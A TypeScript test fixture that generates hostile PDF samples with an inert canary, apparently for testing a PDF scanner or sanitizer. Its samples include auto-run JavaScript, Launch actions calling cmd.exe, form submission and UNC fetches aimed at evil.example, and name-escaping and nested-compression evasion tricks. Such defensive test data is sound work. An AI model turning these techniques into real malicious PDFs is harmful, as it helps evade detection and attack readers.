/** PDFs that do something when they are opened: programs, links, forms, files within the file, also where they hide it. */
import { deflateSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';
import { joined, PDF, buildPdf, pdfStream, type Bytes } from './samples.ts';

/** Stands in every one of them, and in nothing that is made of them. */
export const CANARY = 'canary-4711';

const packed = (objects: string, layers = 1) => {
  let content: Buffer = Buffer.from(`9 0 ${objects}`, 'latin1');
  for (let layer = 0; layer < layers; layer += 1) content = deflateSync(content);
  const filter = layers === 1 ? '/FlateDecode' : `[${'/FlateDecode '.repeat(layers)}]`;
  return pdfStream(`/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, content);
};
const hex = (text: string) => `${Buffer.from(text, 'latin1').toString('hex')}>`;
const opens = (action: string): Bytes => buildPdf({ catalogue: `/OpenAction 5 0 R`, objects: [`<< ${action} >>`] });
const link = (action: string) =>
  buildPdf({
    page: '/Annots [5 0 R]',
    objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << ${action} >> >>`],
  });
/** A change behind the end of a file, as programs append it. */
const changed = (object: string): Bytes =>
  joined(
    PDF,
    `1 0 obj\n${object}\nendobj\nxref\n1 1\n${String(PDF.length).padStart(10, '0')} 00000 n \n` +
      `trailer\n<< /Size 5 /Root 1 0 R /Prev ${PDF.length - 200} >>\nstartxref\n${PDF.length + object.length + 16}\n%%EOF\n`,
  );
const script = `/S /JavaScript /JS (app.alert\\('${CANARY}'\\))`;

const FILES: readonly (readonly [string, () => Bytes])[] = [
  ['a PDF that runs JavaScript', () => opens(script)],
  ['a PDF whose JavaScript is written in other letters', () => opens(`/S /J#61vaScript /J#53 (${CANARY})`)],
  ['a PDF whose JavaScript has a comment in its name', () => opens(`/S /Java%\nScript /JS (${CANARY})`)],
  ['a PDF whose JavaScript lies packed', () => buildPdf({ objects: [packed(`<< ${script} >>`)] })],
  ['a PDF whose JavaScript lies packed twice', () => buildPdf({ objects: [packed(`<< ${script} >>`, 2)] })],
  [
    'a PDF whose JavaScript is a stream in hex',
    () =>
      buildPdf({
        catalogue: '/OpenAction << /S /JavaScript /JS 5 0 R >>',
        objects: [pdfStream('/Filter /ASCIIHexDecode', hex(CANARY))],
      }),
  ],
  [
    'a PDF whose JavaScript is a stream in hex, packed',
    () =>
      buildPdf({
        catalogue: '/OpenAction << /S /JavaScript /JS 5 0 R >>',
        objects: [pdfStream('/Filter [/ASCIIHexDecode /FlateDecode]', hex(deflateSync(CANARY).toString('latin1')))],
      }),
  ],
  [
    'a PDF whose packed objects have a long dictionary',
    () =>
      buildPdf({
        objects: [
          pdfStream(
            `/Type /ObjStm /N 1 /First 4 /Note (${'x'.repeat(5000)}) /Filter /FlateDecode`,
            deflateSync(`9 0 << ${script} >>`),
          ),
        ],
      }),
  ],
  [
    'a PDF with names that run',
    () => buildPdf({ catalogue: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>` }),
  ],
  ['a PDF whose page runs when it is shown', () => buildPdf({ page: `/AA << /O << ${script} >> >>` })],
  ['a PDF whose catalogue runs when it is closed', () => buildPdf({ catalogue: `/AA << /WC << ${script} >> >>` })],
  ['a PDF that starts a program', () => opens(`/S /Launch /F (${CANARY}.exe)`)],
  ['a PDF that starts a program of Windows', () => opens(`/S /Launch /Win << /F (cmd.exe) /P (/c ${CANARY}) >>`)],
  ['a PDF that opens another file', () => opens(`/S /GoToR /F (\\\\\\\\evil.example\\\\${CANARY}) /D [0 /Fit]`)],
  ['a PDF that opens a carried file', () => opens(`/S /GoToE /T << /R /C /N (${CANARY}) >>`)],
  ['a PDF that opens an address', () => opens(`/S /URI /URI (https://evil.example/${CANARY})`)],
  ['a PDF with an address that runs', () => link(`/S /URI /URI (javascript:alert\\('${CANARY}'\\))`)],
  ['a PDF with a link', () => link(`/S /URI /URI (https://evil.example/${CANARY})`)],
  ['a PDF that sends a form away', () => link(`/S /SubmitForm /F (https://evil.example/${CANARY})`)],
  ['a PDF that fetches data', () => link(`/S /ImportData /F (${CANARY})`)],
  [
    'a PDF that shows a film',
    () => buildPdf({ page: `/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /N (${CANARY}) >>]` }),
  ],
  [
    'a PDF that carries a file',
    () =>
      buildPdf({
        catalogue: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
        objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', pdfStream('/Type /EmbeddedFile', CANARY)],
      }),
  ],
  [
    'a PDF with an XFA form',
    () =>
      buildPdf({
        catalogue: '/AcroForm << /XFA 5 0 R /Fields [] >>',
        objects: [pdfStream('', `<xdp>${CANARY}</xdp>`)],
      }),
  ],
  [
    'a PDF whose XFA form is named in other letters',
    () => buildPdf({ catalogue: `/AcroForm << /X#46A (${CANARY}) >>` }),
  ],
  [
    'a PDF with metadata',
    () => buildPdf({ catalogue: '/Metadata 5 0 R', objects: [pdfStream('/Type /Metadata', CANARY)] }),
  ],
  [
    'a PDF that was changed behind its end',
    () => changed(`<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> >>`),
  ],
  ['a PDF with HTML behind it', () => buildPdf({ ending: `<html><script>alert('${CANARY}')</script>` })],
  ['a PDF with PHP in it', () => buildPdf({ contents: `% <?php echo '${CANARY}'; ?>\n` })],
  ['a PDF that is a ZIP as well', () => buildPdf({ ending: `PK\u0003\u0004${CANARY}` })],
  [
    'a PDF whose picture is hidden by a layer',
    () => buildPdf({ catalogue: `/OCProperties << /D << /Name (${CANARY}) >> >>` }),
  ],
];

export const LIVELY_PDFS: readonly HostileFile[] = FILES.map(([name, make]) => ({ name, make }));
